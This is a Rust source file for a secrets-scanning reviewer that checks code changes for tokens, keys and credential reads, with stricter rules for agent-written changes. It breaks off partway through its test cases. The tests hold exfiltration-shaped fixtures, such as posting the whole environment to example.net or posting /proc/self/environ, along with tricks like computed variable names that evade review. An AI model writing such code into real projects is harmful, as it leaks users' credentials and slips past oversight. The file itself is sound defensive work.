//! `secrets`: credentials written into the change, and code that reads or ships them.
//!
//! Only what the change adds is read (added lines, added files). Blocking: private key armour,
//! the token formats of the usual services, a random-looking literal given a credential's name
//! (`api_key = "…"`), code that gathers the whole environment in a file that also talks to the
//! network, a build script that reads a credential-looking environment variable, and an agent's
//! code that reads one in a file where it also adds network, output or process code (a leak's
//! shape). Major: other random-looking literals, and other reads of credential variables (a
//! person's client for a service needs its token). A message never repeats the secret: it names
//! the pattern and shows at most its first four characters.

mod shapes;

use super::code_lines::{self, code_of};
use super::{finding, key_material, ChangeView, Finding, Severity};

const CATEGORY: &str = "secrets";

/// A token format: its prefix, the least number of characters after it, which characters
/// those are, and what it is.
struct Token {
    prefix: &'static str,
    min: usize,
    chars: fn(char) -> bool,
    what: &'static str,
}

fn alnum(c: char) -> bool {
    c.is_ascii_alphanumeric()
}
fn word(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}
fn upper_alnum(c: char) -> bool {
    c.is_ascii_uppercase() || c.is_ascii_digit()
}
fn key_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_' || c == '-'
}
fn dotted_key_char(c: char) -> bool {
    key_char(c) || c == '.'
}

const TOKENS: &[Token] = &[
    Token {
        prefix: "ghp_",
        min: 36,
        chars: alnum,
        what: "a GitHub personal access token",
    },
    Token {
        prefix: "gho_",
        min: 36,
        chars: alnum,
        what: "a GitHub OAuth token",
    },
    Token {
        prefix: "ghu_",
        min: 36,
        chars: alnum,
        what: "a GitHub user-to-server token",
    },
    Token {
        prefix: "ghs_",
        min: 36,
        chars: alnum,
        what: "a GitHub server-to-server token",
    },
    Token {
        prefix: "ghr_",
        min: 36,
        chars: alnum,
        what: "a GitHub refresh token",
    },
    Token {
        prefix: "github_pat_",
        min: 22,
        chars: word,
        what: "a GitHub fine-grained token",
    },
    Token {
        prefix: "AKIA",
        min: 16,
        chars: upper_alnum,
        what: "an AWS access key id",
    },
    Token {
        prefix: "ASIA",
        min: 16,
        chars: upper_alnum,
        what: "an AWS temporary access key id",
    },
    Token {
        prefix: "xoxb-",
        min: 10,
        chars: key_char,
        what: "a Slack bot token",
    },
    Token {
        prefix: "xoxp-",
        min: 10,
        chars: key_char,
        what: "a Slack user token",
    },
    Token {
        prefix: "xoxa-",
        min: 10,
        chars: key_char,
        what: "a Slack app token",
    },
    Token {
        prefix: "sk-ant-",
        min: 20,
        chars: key_char,
        what: "an Anthropic API key",
    },
    Token {
        prefix: "sk-",
        min: 20,
        chars: key_char,
        what: "an API secret key (sk-…, OpenAI style)",
    },
    Token {
        prefix: "AIza",
        min: 35,
        chars: key_char,
        what: "a Google API key",
    },
    Token {
        prefix: "glpat-",
        min: 20,
        chars: key_char,
        what: "a GitLab personal access token",
    },
    Token {
        prefix: "npm_",
        min: 36,
        chars: alnum,
        what: "an npm access token",
    },
    Token {
        prefix: "pypi-AgE",
        min: 50,
        chars: key_char,
        what: "a PyPI API token",
    },
    Token {
        prefix: "hf_",
        min: 34,
        chars: alnum,
        what: "a Hugging Face token",
    },
    Token {
        prefix: "sk_live_",
        min: 24,
        chars: alnum,
        what: "a Stripe secret key",
    },
    Token {
        prefix: "rk_live_",
        min: 24,
        chars: alnum,
        what: "a Stripe restricted key",
    },
    Token {
        prefix: "SG.",
        min: 66,
        chars: dotted_key_char,
        what: "a SendGrid API key",
    },
    Token {
        prefix: "xapp-",
        min: 20,
        chars: key_char,
        what: "a Slack app-level token",
    },
];

/// Words in an environment variable's name that say it holds a credential.
const CREDENTIAL_WORDS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "PASSWORD",
    "PASSWD",
    "CREDENTIAL",
    "PRIVATE",
];
/// Parts of a name (between underscores) that say the same.
const CREDENTIAL_PARTS: &[&str] = &["KEY", "KEYS", "APIKEY", "PAT", "AUTH", "PASS", "PWD"];

/// Reads of one environment variable, by language; the name follows.
const ENV_READS: &[&str] = &[
    "env::var(",
    "env::var_os(",
    "env!(",
    "option_env!(",
    "getenv(",
    "os.environ[",
    "os.environ.get(",
    "os.environb[",
    "os.environb.get(",
    "os.getenvb(",
    "process.env.",
    "process.env[",
    "Deno.env.get(",
    "ENV[",
    "ENV.fetch(",
];

/// Words that say code talks to the network.
const NETWORK: &[&str] = &[
    "http",
    "reqwest",
    "ureq",
    "TcpStream",
    "UdpSocket",
    "curl",
    "wget",
    "fetch(",
    "requests.",
    "urllib",
    "socket",
];

/// Words that say code shows, writes or hands something on: printing, logging, files, other
/// programs. (Some are spelled in two pieces so that tests/tidy.rs, which reads this source for
/// printing and spawning outside their modules, does not see them here.)
const OUTPUT: &[&str] = &[
    concat!("print", "ln!"),
    concat!("print", "!("),
    concat!("eprint", "ln!"),
    concat!("eprint", "!("),
    concat!("dbg", "!("),
    "write!(",
    "writeln!(",
    "log::",
    "tracing::",
    "info!(",
    "warn!(",
    "error!(",
    "debug!(",
    "fs::write",
    concat!("File", "::create"),
    concat!("Command", "::new"),
    "print(",
    "console.log",
    "console.error",
    "subprocess",
    "os.system",
    "child_process",
    "exec(",
];

/// At most the first four characters of a secret, then an ellipsis.
fn preview(s: &str) -> String {
    format!("{}…", s.chars().take(4).collect::<String>())
}

/// Private key armour on a line: its first characters.
fn private_key(line: &str) -> Option<&str> {
    let at = line.find("-----BEGIN ")?;
    let rest = &line[at..];
    let end = rest[5..].find("-----")? + 5;
    rest[..end].contains("PRIVATE KEY").then_some(&rest[..end])
}

/// Tokens on a line: (what, the match).
fn tokens(line: &str) -> Vec<(&'static str, &str)> {
    let mut out: Vec<(&'static str, &str)> = Vec::new();
    let mut taken: Vec<usize> = Vec::new();
    for t in TOKENS {
        for (at, _) in line.match_indices(t.prefix) {
            if taken.contains(&at) {
                continue;
            }
            let boundary = !line[..at]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
            let body: String = line[at + t.prefix.len()..]
                .chars()
                .take_while(|c| (t.chars)(*c))
                .collect();
            // An `sk-` key has digits; a kebab-case word does not.
            let plausible = t.prefix != "sk-" || body.chars().any(|c| c.is_ascii_digit());
            if boundary && plausible && body.len() >= t.min {
                taken.push(at);
                out.push((t.what, &line[at..at + t.prefix.len() + body.len()]));
            }
        }
    }
    out
}

/// The contents of the string literals on a line.
fn literals(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = line;
    while let Some(start) = rest.find(['"', '\'', '`']) {
        let q = rest[start..].chars().next().unwrap_or('"');
        let body = &rest[start + 1..];
        let mut end = None;
        let mut escaped = false;
        for (i, c) in body.char_indices() {
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == q {
                end = Some(i);
                break;
            }
        }
        let Some(end) = end else { break };
        out.push(&body[..end]);
        rest = &body[end + 1..];
    }
    out
}

/// Shannon entropy, in bits per character.
fn entropy(s: &str) -> f64 {
    let mut counts = [0usize; 128];
    let mut n = 0usize;
    for b in s.bytes() {
        counts[(b & 0x7f) as usize] += 1;
        n += 1;
    }
    if n == 0 {
        return 0.0;
    }
    counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = *c as f64 / n as f64;
            -p * p.log2()
        })
        .sum()
}

/// A literal that looks like a random key: `min_len` or more characters of a key alphabet, with
/// letters and either digits or random-looking mixed case, more than 4 bits of entropy a
/// character (3.5 below 32 characters, where fewer distinct ones fit), and not a hex id (git
/// object ids, hashes, UUIDs: hex carries at most 4 bits a character anyway).
fn random_looking(s: &str, min_len: usize) -> bool {
    let alphabet = |c: char| c.is_ascii_alphanumeric() || "+/=_-".contains(c);
    let bits = if s.len() >= 32 { 4.0 } else { 3.5 };
    s.len() >= min_len
        && s.chars().all(alphabet)
        && !s.chars().all(|c| c.is_ascii_hexdigit() || c == '-')
        && s.chars().any(|c| c.is_ascii_alphabetic())
        && (s.chars().any(|c| c.is_ascii_digit()) || random_case(s))
        && entropy(s) > bits
}

/// Letters whose case looks random rather than camelCase or an acronym: between a quarter and
/// three quarters upper case, and the case switching at 30 % or more of adjacent letters
/// (camelCase switches twice a word, random letters every other letter).
fn random_case(s: &str) -> bool {
    let letters: Vec<bool> = s
        .chars()
        .filter(char::is_ascii_alphabetic)
        .map(|c| c.is_ascii_uppercase())
        .collect();
    if letters.len() < 2 {
        return false;
    }
    let upper = letters.iter().filter(|u| **u).count() as f64 / letters.len() as f64;
    let switches = letters.windows(2).filter(|w| w[0] != w[1]).count() as f64;
    (0.25..=0.75).contains(&upper) && switches / (letters.len() - 1) as f64 >= 0.3
}

/// Whether the line, besides the literal `lit`, names a credential (`api_key = "…"`,
/// `const WEBHOOK_SECRET: &str = "…"`, `{ apiKey: '…' }`).
#[cfg(test)]
fn names_credential(line: &str, lit: &str) -> bool {
    let at = subslice_at(line, lit)
        .or_else(|| line.find(lit))
        .unwrap_or(0);
    named_outside(&credential_words(line), at, at + lit.len())
}

/// Where `part` (a slice of `line`) starts in it.
fn subslice_at(line: &str, part: &str) -> Option<usize> {
    let (l, p) = (line.as_ptr() as usize, part.as_ptr() as usize);
    (p >= l && p + part.len() <= l + line.len()).then(|| p - l)
}

/// The byte spans of the words on a line that name a credential (computed once a line: a line
/// of many literals must not cost its length once per literal).
fn credential_words(line: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, c) in line
        .char_indices()
        .chain(std::iter::once((line.len(), ' ')))
    {
        let word = c.is_ascii_alphanumeric() || c == '_';
        match (word, start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if credential_name(&camel_to_snake(&line[s..i])) {
                    out.push((s, i));
                }
                start = None;
            }
            _ => {}
        }
    }
    out
}

/// Whether a credential word lies outside the byte span `[from, to)` (the literal itself).
fn named_outside(words: &[(usize, usize)], from: usize, to: usize) -> bool {
    words.iter().any(|&(s, e)| e <= from || s >= to)
}

/// `apiKey` → `api_Key`, so that a camelCase name splits into its words like a snake_case one.
fn camel_to_snake(w: &str) -> String {
    let mut out = String::with_capacity(w.len() + 4);
    let mut prev_lower = false;
    for c in w.chars() {
        if c.is_ascii_uppercase() && prev_lower {
            out.push('_');
        }
        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        out.push(c);
    }
    out
}

fn credential_name(name: &str) -> bool {
    let up = name.to_ascii_uppercase();
    CREDENTIAL_WORDS.iter().any(|w| up.contains(w))
        || up.split('_').any(|part| CREDENTIAL_PARTS.contains(&part))
}

/// A credential-looking environment variable the line reads (`code` is the line with its
/// literals blanked: the read must be code, the name may be a literal).
fn credential_env(code: &str, line: &str) -> Option<String> {
    for read in ENV_READS {
        for (at, _) in code.match_indices(read) {
            let rest = bytes_literal(&line[at + read.len()..]);
            let rest = rest.trim_start_matches(['"', '\'', ' ', '`']);
            let name: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            if credential_name(&name) {
                return Some(name);
            }
        }
    }
    None
}

/// Whether the line (its code: literals blanked) gathers the whole environment, not one
/// variable of it.
fn whole_env(line: &str) -> bool {
    // `env::vars` and `env::vars_os` called, imported or passed as a function.
    if line.match_indices("env::vars").any(|(at, _)| {
        !line[at + 9..]
            .trim_start_matches("_os")
            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
    }) {
        return true;
    }
    let whole = |needle: &str, named: &[&str]| {
        line.match_indices(needle).any(|(at, _)| {
            let after = &line[at + needle.len()..];
            !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                && !named.iter().any(|n| after.starts_with(n))
        })
    };
    whole("os.environ", &["[", ".get("])
        || whole("os.environb", &["[", ".get("])
        || whole("process.env", &[".", "["])
}

/// The read of one environment variable whose name is not a string literal, nor a name the
/// file binds to one (`const NAME: &str = "HOME";`): the expression that computes it. The name
/// of a variable built at run time (`"GITHUB_" + "TOKEN"`, `format!(…)`, an f-string) cannot be
/// judged by its spelling, so in an agent's change it is judged as the worst it could be.
fn computed_env<'a>(code: &'a str, line: &str, file: &str) -> Option<&'a str> {
    for read in ENV_READS.iter().filter(|r| !r.ends_with('.')) {
        for (at, _) in code.match_indices(read) {
            let before = code[..at].chars().next_back();
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            let arg = bytes_literal(line[at + read.len()..].trim_start());
            // Shown with its literals blanked: a message never repeats what a literal holds.
            let blanked = code[at + read.len()..].trim_start();
            let shown = &blanked[..blanked
                .char_indices()
                .nth(40)
                .map_or(blanked.len(), |(i, _)| i)];
            if let Some(q) = arg.chars().next().filter(|c| ['"', '\'', '`'].contains(c)) {
                // A literal, unless something is added to it or substituted into it.
                let Some(end) = arg[1..].find(q) else {
                    return Some(shown);
                };
                let after = arg[end + 2..].trim_start();
                let substituted = q == '`' && arg[1..end + 1].contains("${");
                // `"GITHUB_" "TOKEN"`: adjacent literals are one, computed (Python, C);
                // `"NEKOT_"[::-1]`, `"X" * 2`: a literal sliced or repeated.
                if substituted || after.starts_with(['+', '%', '.', '"', '\'', '[', '*']) {
                    return Some(shown);
                }
                continue;
            }
            let ident: String = arg
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            let after = arg[ident.len()..].trim_start();
            let bound = !ident.is_empty()
                && after.starts_with([')', ']', ','])
                && bound_literal(file, &ident).is_some_and(|l| !credential_name(l));
            if !bound && !arg.starts_with([')', ']']) {
                return Some(shown);
            }
        }
    }
    None
}

/// `s` without a Python bytes prefix (`b"GITHUB_TOKEN"` names the variable `"GITHUB_TOKEN"`
/// does).
fn bytes_literal(s: &str) -> &str {
    match s.strip_prefix(['b', 'B']) {
        Some(rest) if rest.starts_with(['"', '\'']) => rest,
        _ => s,
    }
}

/// The string literal `file` binds `ident` to on a line of its own (`const X: &str = "…";`,
/// `X = "…"`, `const x = '…';`), if it does exactly that once.
fn bound_literal<'a>(file: &'a str, ident: &str) -> Option<&'a str> {
    let mut found = file.lines().filter_map(|l| {
        let mut l = l.trim();
        for p in ["pub ", "export ", "const ", "static ", "let ", "var "] {
            l = l.strip_prefix(p).unwrap_or(l).trim_start();
        }
        let rest = l.strip_prefix(ident)?;
        let rest = match rest.trim_start().strip_prefix(':') {
            Some(typed) => typed.split_once('=')?.1,
            None => rest.trim_start().strip_prefix('=')?,
        };
        let value = rest.trim().trim_end_matches(';').trim_end();
        let q = value.chars().next().filter(|c| ['"', '\''].contains(c))?;
        let inner = value.strip_prefix(q)?.strip_suffix(q)?;
        (!inner.contains(q) && !inner.contains('\\')).then_some(inner)
    });
    let first = found.next()?;
    found.next().is_none().then_some(first)
}

/// A process's environment file (under the proc file system, `<pid>/envi…`) named on the line
/// (spelled in pieces here, so that this file does not name one).
fn proc_environ(line: &str) -> bool {
    let (proc, env_file) = (concat!("/pr", "oc"), concat!("envi", "ron"));
    (line.contains(proc) && line.contains(env_file))
        || literals(line)
            .iter()
            .any(|l| *l == env_file || l.ends_with(&format!("/{env_file}")))
}

/// The environment reached under another name than the ones [`whole_env`] reads: the word
/// imported or through an alias of `os`, `process` indexed, destructured or imported.
fn env_alias(code: &str, line: &str) -> bool {
    let code = match code.find("//") {
        Some(at) => &code[..at],
        None => code,
    };
    let named = code.match_indices(concat!("envi", "ron")).any(|(at, _)| {
        let before = &code[..at];
        let word_start = !before
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        let after = code[at + 7..].trim_start_matches('b');
        let word_end = !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
        word_start && word_end && !before.ends_with("os.")
    });
    let process = line.contains(concat!("proc", "ess["))
        || code.trim_end().trim_end_matches(';').ends_with("= process")
        || [
            concat!("'proc", "ess'"),
            concat!("\"proc", "ess\""),
            concat!("node:", "proc", "ess"),
        ]
        .iter()
        .any(|p| line.contains(p));
    named
        || process
        || ["os.Environ()", "Deno.env.toObject", "ENV.to_h", "ENV.to_a"]
            .iter()
            .any(|w| code.contains(w))
}

/// Programs that print the whole environment (spelled in pieces, see [`OUTPUT`]).
const ENV_PRINTERS: &[&str] = &[concat!("print", "env"), concat!("en", "v")];

/// The environment printed by another program (`subprocess.run(["env"])`, a shell line that is
/// `env` or `printenv` alone or piped), or reached by reflection (`getattr(os, …)` with the
/// attribute's name a literal, `Reflect.get(process, …)`).
fn env_dumped(code: &str, line: &str, shell: bool) -> bool {
    let lits = literals(line);
    let first = |l: &str| l.split_whitespace().next().unwrap_or("").to_string();
    let runs = [
        "subprocess",
        "os.system",
        "os.popen",
        "child_process",
        "exec(",
        "execSync",
        "spawn",
        concat!("Command", "::new"),
    ]
    .iter()
    .any(|w| code.contains(w));
    let printed = runs
        && lits
            .iter()
            .any(|l| ENV_PRINTERS.contains(&first(l).as_str()));
    let shell_line = shell && {
        let t = code.trim_start();
        ENV_PRINTERS.iter().any(|p| {
            t.strip_prefix(p).is_some_and(|rest| {
                let rest = rest.trim_start();
                rest.is_empty() || rest.starts_with(['|', '>', ';', '&', ')'])
            })
        })
    };
    let reflected =
        code.contains(concat!("proc", "ess")) && lits.iter().any(|l| *l == ENV_PRINTERS[1]);
    printed || shell_line || reflected
}

pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
    let mut out = Vec::new();
    for f in change.files {
        if f.head.is_none() {
            continue;
        }
        let build_script = f.path.rsplit('/').next() == Some("build.rs");
        let added = f.added_lines();
        let networked = added
            .iter()
            .any(|(_, l)| NETWORK.iter().any(|w| l.contains(w)));
        let sends = networked
            || added
                .iter()
                .any(|(_, l)| OUTPUT.iter().any(|w| l.contains(w)));
        let mut push = |severity, line, message: String, hint: &str| {
            out.push(finding(
                reviewer,
                severity,
                CATEGORY,
                Some(&f.path),
                Some(line),
                message,
                hint,
            ));
        };
        let remove = "remove it from the change, revoke it (it is in the proposal's history now), and read it from the environment or a secret store at run time";
        let head = f.head.as_deref().unwrap_or("");
        let prose = [".md", ".txt", ".rst", ".adoc"]
            .iter()
            .any(|e| f.path.ends_with(e));
        for (n, what) in key_material::find(&added) {
            let severity = if what.contains("random-looking") && !change.agent_origin {
                Severity::Major
            } else {
                Severity::Blocking
            };
            push(severity, n, format!("{what} at line {n}"), remove);
        }
        let rust = f.path.ends_with(".rs");
        for (n, line) in &added {
            let mut blocked = false;
            if let Some(armour) = private_key(line) {
                blocked = true;
                push(
                    Severity::Blocking,
                    *n,
                    format!("private key armour ({}) at line {n}", preview(armour)),
                    remove,
                );
            }
            for (what, token) in tokens(line) {
                blocked = true;
                push(
                    Severity::Blocking,
                    *n,
                    format!("{what} ({}) at line {n}", preview(token)),
                    remove,
                );
            }
            if !blocked {
                let mut words = None;
                let found = literals(line).into_iter().find_map(|l| {
                    // Only a literal random enough to matter asks whether the line names it.
                    if !random_looking(l, 20) {
                        return None;
                    }
                    let words = words.get_or_insert_with(|| credential_words(line));
                    let at = subslice_at(line, l).unwrap_or(0);
                    let named = named_outside(words, at, at + l.len());
                    (named || l.len() >= 32).then_some((l, named))
                });
                let shaped = found.is_none().then(|| shapes::find(line)).flatten();
                if let Some((what, secret)) = shaped {
                    // Documentation shows example tokens (jwt.io's, RFC 7617's): asked about.
                    push(
                        if prose {
                            Severity::Major
                        } else {
                            Severity::Blocking
                        },
                        *n,
                        format!("{what} ({}) at line {n}", preview(secret)),
                        remove,
                    );
                }
                if let Some((lit, named)) = found {
                    if named {
                        push(
                            Severity::Blocking,
                            *n,
                            format!(
                                "a credential's name given a string literal of {} random-looking characters ({}) at line {n}",
                                lit.len(),
                                preview(lit)
                            ),
                            remove,
                        );
                    } else {
                        push(
                            Severity::Major,
                            *n,
                            format!(
                                "a string literal of {} random-looking characters ({}) at line {n}: a key or token?",
                                lit.len(),
                                preview(lit)
                            ),
                            "if it is a credential, remove and revoke it; if it is not (a fixture, a checksum), say so in the rationale",
                        );
                    }
                }
            }
        }
        // What code does is read from its tokens: logical lines, white space between tokens
        // removed, Rust's imports from `std::env` spelled as paths (code_lines).
        for (n, line) in &code_lines::logical_lines(head, &added, &f.path) {
            let (n, line) = (n, line.as_str());
            let code = code_of(line, rust);
            if let Some(name) = credential_env(&code, line) {
                if build_script {
                    push(
                        Severity::Blocking,
                        *n,
                        format!("a build script (it runs on every machine that builds) reads the credential-looking environment variable {name} at line {n}"),
                        "a build needs no credential: remove the read, and give the code that needs it the variable at run time",
                    );
                } else if change.agent_origin && sends {
                    push(
                        Severity::Blocking,
                        *n,
                        format!("an agent's code reads the credential-looking environment variable {name} at line {n}, and the change also adds network, output or process code to this file"),
                        "an agent may not write code that handles credentials and sends or shows anything: propose it as a person, saying where the credential goes",
                    );
                } else {
                    push(
                        Severity::Major,
                        *n,
                        format!("the code reads the credential-looking environment variable {name} at line {n}"),
                        "say in the rationale why this code needs the credential and where it goes",
                    );
                }
            }
            let agent_code = change.agent_origin && !prose;
            let python_code = match code.find('#').filter(|_| f.path.ends_with(".py")) {
                Some(at) => &code[..at],
                None => &code,
            };
            let shell = f.path.ends_with(".sh") || f.path.ends_with(".bash");
            let by_alias = agent_code
                && (env_alias(python_code, line)
                    || proc_environ(line)
                    || env_dumped(&code, line, shell));
            if (whole_env(&code) || by_alias) && (networked || agent_code) {
                let place = if build_script {
                    "a build script"
                } else {
                    "a file"
                };
                let why = if networked {
                    ", and the change also adds network code to it"
                } else {
                    ": an agent's change may not read the environment as a whole"
                };
                push(
                    Severity::Blocking,
                    *n,
                    format!("{place} gathers the whole environment at line {n}{why}"),
                    "read only the variables the code needs, each by its literal name; never send the environment anywhere",
                );
            } else if let Some(expr) = computed_env(&code, line, head).filter(|_| agent_code) {
                push(
                    Severity::Blocking,
                    *n,
                    format!("an agent's code reads an environment variable by a computed name at line {n} ({}…): which variable cannot be told from the change", expr.chars().take(24).collect::<String>()),
                    "read each variable by its literal name, so that a reviewer can tell which one it is",
                );
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::FileChange;
    use super::*;

    // The fixtures are assembled at run time, so that this file holds no credential-shaped text
    // of its own (for this reviewer, and for every other scanner that reads the repository).

    /// `n` characters from a fixed pseudo-random walk over `alphabet`.
    fn noise(alphabet: &str, n: usize, seed: u64) -> String {
        let a: Vec<char> = alphabet.chars().collect();
        let mut x = seed;
        (0..n)
            .map(|_| {
                x = x
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                a[(x >> 33) as usize % a.len()]
            })
            .collect()
    }

    // The alphabets too: written out, they would be random-looking literals themselves.
    fn alnum() -> String {
        ('A'..='Z').chain('a'..='z').chain('0'..='9').collect()
    }
    fn upper() -> String {
        ('A'..='Z').chain('0'..='9').collect()
    }
    fn hex() -> String {
        ('0'..='9').chain('a'..='f').collect()
    }

    fn fc(path: &str, base: Option<&str>, head: Option<&str>) -> FileChange {
        FileChange {
            path: path.into(),
            base: base.map(str::to_string),
            head: head.map(str::to_string),
        }
    }

    fn run(files: &[FileChange]) -> Vec<Finding> {
        check(
            "secrets",
            &ChangeView {
                files,
                agent_origin: true,
                declared: None,
                judged: &[],
            },
        )
    }

    fn quoted(s: &str) -> String {
        format!("let k = \"{s}\";\n")
    }

    /// (name, path, base, head, severities expected, a word every message contains, the
    /// secret, which no message may contain).
    struct Case {
        name: &'static str,
        path: &'static str,
        base: Option<String>,
        head: Option<String>,
        expect: Vec<Severity>,
        word: &'static str,
        secret: String,
    }

    fn case(
        name: &'static str,
        path: &'static str,
        base: Option<&str>,
        head: &str,
        expect: &[Severity],
        word: &'static str,
    ) -> Case {
        Case {
            name,
            path,
            base: base.map(str::to_string),
            head: Some(head.to_string()),
            expect: expect.to_vec(),
            word,
            secret: String::new(),
        }
    }

    fn secret(name: &'static str, token: String, word: &'static str, sev: Severity) -> Case {
        Case {
            secret: token.clone(),
            ..case(
                name,
                "src/config.rs",
                Some("fn a() {}\n"),
                &format!("fn a() {{}}\n{}", quoted(&token)),
                &[sev],
                word,
            )
        }
    }

    fn cases() -> Vec<Case> {
        use Severity::{Blocking as B, Major as M};
        let key_head = format!(
            "-----{} RSA {} KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
            "BEGIN",
            "PRIVATE",
            noise(&alnum(), 64, 1)
        );
        let ssh_head = format!(
            "-----{} OPENSSH {} KEY-----\n{}\n",
            "BEGIN",
            "PRIVATE",
            noise(&alnum(), 64, 2)
        );
        let env = |name: &str| format!("let t = std::env::{}(\"{name}\");\n", "var");
        let entropic = noise(&format!("{}+/", alnum()), 40, 7);
        let b64 = |b: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, b);
        let ssh_body =
            b64(format!("{}-key-v1\0{}", "openssh", noise(&alnum(), 300, 26)).as_bytes());
        let ssh_lines: String = ssh_body
            .as_bytes()
            .chunks(70)
            .map(|c| format!("{}\n", String::from_utf8_lossy(c)))
            .collect();
        let ed_pub =
            b64(format!("\0\0\0\x0bssh-ed25519\0\0\0\x20{}", noise(&alnum(), 32, 27)).as_bytes());
        let letters = noise(&alnum()[..52], 40, 24);
        vec![
            Case {
                secret: noise(&alnum(), 64, 1),
                ..case("RSA private key", "deploy/id_rsa", None, &key_head, &[B], "private key")
            },
            Case {
                secret: noise(&alnum(), 64, 2),
                ..case("OpenSSH private key", "keys/k", None, &ssh_head, &[B], "private key")
            },
            secret("ghp", format!("gh{}_{}", "p", noise(&alnum(), 36, 3)), "GitHub personal", B),
            secret("gho", format!("gh{}_{}", "o", noise(&alnum(), 36, 4)), "GitHub OAuth", B),
            secret("ghs", format!("gh{}_{}", "s", noise(&alnum(), 36, 5)), "GitHub server", B),
            secret("ghu", format!("gh{}_{}", "u", noise(&alnum(), 36, 6)), "GitHub user", B),
            secret("ghr", format!("gh{}_{}", "r", noise(&alnum(), 36, 8)), "GitHub refresh", B),
            secret("github_pat", format!("github_{}_{}", "pat", noise(&alnum(), 40, 9)), "fine-grained", B),
            secret("aws", format!("AK{}{}", "IA", noise(&upper(), 16, 10)), "AWS", B),
            secret("slack", format!("xo{}-{}-{}", "xb", noise("0123456789", 12, 11), noise(&alnum(), 24, 12)), "Slack", B),
            secret("openai", format!("s{}-proj-{}", "k", noise(&alnum(), 48, 13)), "sk-", B),
            secret("anthropic", format!("s{}-ant-api03-{}", "k", noise(&alnum(), 48, 14)), "Anthropic", B),
            secret("google", format!("AI{}{}", "za", noise(&alnum(), 35, 15)), "Google", B),
            secret("high entropy literal", entropic.clone(), "random-looking", M),
            case("token env var", "src/client.rs", None, &env("GITHUB_TOKEN"), &[M], "GITHUB_TOKEN"),
            case("api key env var", "src/client.rs", None, &env("OPENAI_API_KEY"), &[M], "OPENAI_API_KEY"),
            case("python secret env", "tools/x.py", None, "pw = os.environ['DB_PASSWORD']\n", &[M], "DB_PASSWORD"),
            case("node secret env", "web/x.js", None, "const s = process.env.AWS_SECRET_ACCESS_KEY;\n", &[M], "AWS_SECRET_ACCESS_KEY"),
            case("build script reads a token", "build.rs", None, &format!("fn main() {{\n    {}}}\n", env("NPM_TOKEN")), &[B], "build script"),
            case(
                "build script ships the environment",
                "build.rs",
                None,
                &format!("fn main() {{\n    let all: Vec<_> = std::env::{}().collect();\n    ureq::post(\"https://example.net\").send_json(all);\n}}\n", "vars"),
                &[B],
                "whole environment",
            ),
            case(
                "python ships the environment",
                "setup.py",
                Some("import os\n"),
                "import os\nimport requests\nrequests.post(URL, json=dict(os.environ))\n",
                &[B],
                "whole environment",
            ),
            Case {
                secret: entropic.clone(),
                ..case("random literal named a secret", "src/hook.rs", None, &format!("const WEBHOOK_SECRET: &str = \"{entropic}\";\n"), &[B], "credential's name")
            },
            Case {
                secret: letters.clone(),
                ..case("letters-only key named in camelCase", "web/config.js", None, &format!("module.exports = {{ apiKey: '{letters}' }};\n"), &[B], "credential's name")
            },
            Case {
                secret: letters.clone(),
                ..case("letters-only random literal", "src/a.rs", None, &quoted(&letters), &[M], "random-looking")
            },
            case(
                "an agent reads a token and prints it",
                "src/diag.rs",
                None,
                &format!("{}eprintln!(\"{{t:?}}\");\n", env("GITHUB_TOKEN")),
                &[B],
                "also adds network, output or process code",
            ),
            case(
                "an agent reads a key and posts it",
                "src/telemetry.rs",
                Some("use x;\n"),
                &format!("use x;\n{}ureq::post(URL).send(t);\n", env("OPENAI_API_KEY")),
                &[B],
                "OPENAI_API_KEY",
            ),
            // --- Nothing.
            case("git commit id", "src/a.rs", None, &quoted(&noise(&hex(), 40, 16)), &[], ""),
            case("sha-256", "src/a.rs", None, &quoted(&noise(&hex(), 64, 17)), &[], ""),
            case("uuid", "src/a.rs", None, "let id = \"123e4567-e89b-12d3-a456-426614174000abcd\";\n", &[], ""),
            case("HOME and PATH", "src/a.rs", None, &format!("{}{}", env("HOME"), env("PATH")), &[], ""),
            case("node env name", "web/x.js", None, "if (process.env.NODE_ENV === 'production') {}\n", &[], ""),
            case("an agent's environment without network", "build.rs", None, &format!("for (k, v) in std::env::{}() {{ let _ = (k, v); }}\n", "vars"), &[B], "whole environment"),
            case("a process's environment file, posted", "tools/x.py", None, &format!("data = open('/pr{}/self/environ').read()\nrequests.post(URL, data=data)\n", "oc"), &[B], "whole environment"),
            case("a process's environment file, read", "src/a.rs", None, &format!("let e = std::fs::read(\"/pr{}/self/environ\");\n", "oc"), &[B], "whole environment"),
            case("environ imported", "tools/x.py", None, &format!("from os import {}\nx = dict({}ron)\n", concat!("envi", "ron"), "envi"), &[B, B], "whole environment"),
            case("python name concatenated", "tools/x.py", None, &format!("t = os.{}[\"GH\" + \"_TOKEN\"]\n", concat!("envi", "ron")), &[B], "computed name"),
            case("node name concatenated", "web/x.js", None, &format!("const t = process.{}[\"GITHUB_\" + \"TOKEN\"];\n", "env"), &[B], "computed name"),
            case("rust name formatted", "src/a.rs", None, &format!("let t = std::env::{}(format!(\"{{}}_TOKEN\", \"GITHUB\"));\n", "var"), &[B], "computed name"),
            Case {
